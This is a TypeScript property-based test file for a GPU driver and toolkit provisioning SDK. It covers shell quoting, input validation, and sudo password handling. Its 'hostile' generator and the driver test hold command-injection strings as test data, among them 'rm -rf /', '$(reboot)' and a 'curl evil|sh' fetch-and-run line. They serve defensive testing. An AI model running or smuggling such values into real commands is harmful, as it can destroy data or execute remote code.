import { strict as assert } from "node:assert";
import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { GpuConfigError } from "../../../sdk/errors";
import { driverPlan } from "../../../sdk/driver/driverPlan";
import { invocationFor, stdinFor } from "../../../sdk/steps/invocation";
import { toolkitPlan } from "../../../sdk/toolkit/toolkitPlan";
import { quote, script, sh } from "../../../sdk/shell/shellScript";

const hostile = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 40 }),
    fc.constantFrom(
        "1.19.0-1; rm -rf /",
        "$(reboot)",
        "`id`",
        "x' || true; '",
        "a\nb",
        "--allow-unauthenticated",
        "1.20.0-1 && curl evil|sh",
        "*",
        "~root",
        "\\'",
    ),
);

describe("shell safety", () => {
    it("quote() round-trips any string through a real sh, unchanged", function () {
        this.timeout(60000);
        fc.assert(
            fc.property(
                fc.string({ unit: "grapheme", maxLength: 30 }).filter((s) => !s.includes("\0")),
                (value) => {
                    const out = execFileSync("sh", ["-c", `printf '%s' ${quote(value)}`], { encoding: "utf8" });
                    assert.equal(out, value);
                },
            ),
            { numRuns: 150 },
        );
    });

    it("sh`` keeps each interpolated value one argument, whatever it holds", function () {
        this.timeout(60000);
        fc.assert(
            fc.property(
                fc.array(
                    hostile.filter((s) => !s.includes("\0")),
                    { maxLength: 4 },
                ),
                (values) => {
                    const out = execFileSync("sh", ["-c", script(sh`for a in ${values}; do printf '[%s]' "$a"; done`)], { encoding: "utf8" });
                    assert.equal(out, values.map((v) => `[${v}]`).join(""));
                },
            ),
            { numRuns: 100 },
        );
    });

    it("refuses hostile values for every toolkit field before any script exists", () => {
        fc.assert(
            fc.property(hostile, fc.constantFrom("version", "repoUrl", "keyUrl", "keyFingerprint"), (value, field) => {
                const spec = { version: "1.19.0-1", packageManager: "apt" as const, [field]: value };
                let steps;
                try {
                    steps = toolkitPlan(spec);
                } catch (e) {
                    assert.ok(e instanceof GpuConfigError, String(e));
                    assert.match((e as Error).message, new RegExp(`toolkit\\.${field}`));
                    return;
                }
                // Accepted values are plain words: they appear in the scripts only as such.
                assert.match(value, /^[A-Za-z0-9.:/~+_%-]+$/);
                assert.ok(steps.length === 4);
            }),
            { numRuns: 300 },
        );
        assert.throws(() => toolkitPlan({ version: "1.19.0-1; rm -rf /", packageManager: "apt" }), /toolkit\.version: "1\.19\.0-1; rm -rf \/" is not valid/);
    });

    it("refuses hostile driver versions and branches", () => {
        fc.assert(
            fc.property(
                hostile.filter((v) => v !== "" && !/^\d*$/.test(v)),
                (value) => {
                    assert.throws(() => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, version: `580.95.05${value}` }), GpuConfigError);
                },
            ),
            { numRuns: 100 },
        );
        assert.throws(() => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, branch: "580; reboot" }), /driver\.branch/);
        assert.throws(
            () => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, branch: "580", version: "580.95.05" }),
            /exactly one of `branch` or `version`/,
        );
    });

    it("passes a sudo password on stdin only, never in the command", () => {
        const step = { script: "#!/bin/sh\nset -eu\necho hi\n", root: true };
        const withPassword = invocationFor(step, "ops", "password");
        assert.equal(withPassword.passwordOnStdin, true);
        assert.match(withPassword.command, /^sudo -S -p '' sh -c /);
        assert.equal(stdinFor(withPassword, "pw"), `pw\n${step.script}`);
        assert.equal(withPassword.command.includes("echo hi"), false, "the script is not in argv");
        assert.equal(invocationFor(step, "ops", "passwordless").command.startsWith("sudo -n sh -c "), true);
        assert.equal(invocationFor(step, "root", "root").command.startsWith("sh -c "), true);
        assert.equal(invocationFor({ ...step, root: false, runAs: "alice" }, "root", "root").command.startsWith("runuser -u alice -- sh -c "), true);
        const undo = invocationFor(step, "ops", "password", "argv");
        assert.equal(undo.stdin, undefined);
        assert.equal(stdinFor(undo, "pw"), "pw\n");
    });

    it("runs a script larger than the kernel's 128 KiB argument limit from stdin (issue 12 bug 12)", () => {
        const big = "x".repeat(300 * 1024);
        const step = { script: `#!/bin/sh\nset -eu\ncat > /dev/null <<'EOF'\n${big}\nEOF\nread -r line || echo "stdin closed"\necho done\n`, root: false };
        const invocation = invocationFor(step, "root", "root");
        const out = execFileSync("sh", ["-c", invocation.command], { input: stdinFor(invocation, undefined), encoding: "utf8" });
        assert.equal(out, "stdin closed\ndone\n");
        const inArgv = invocationFor(step, "root", "root", "argv");
        assert.throws(() => execFileSync("sh", ["-c", inArgv.command], { encoding: "utf8", stdio: "pipe" }), /E2BIG|too long/);
    });
});

describe("driver plan", () => {
    it("reboots only when asked, before the verify step", () => {
        const names = (reboot: boolean) => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, branch: "580", reboot }).map((s) => s.name);
        assert.deepEqual(names(false), ["driver-packages", "driver-no-unattended-upgrades", "driver-verify"]);
        assert.deepEqual(names(true), ["driver-packages", "driver-no-unattended-upgrades", "driver-reboot", "driver-verify"]);
    });
    it("refuses a script template with an invalid escape instead of writing 'undefined' into a script", () => {
        const broken = (strings: TemplateStringsArray) =>
            sh(Object.assign(["a", undefined as unknown as string], { raw: ["a", "\\("] }) as unknown as TemplateStringsArray);
        assert.throws(() => broken`x`, /invalid escape in a script template/);
    });
});
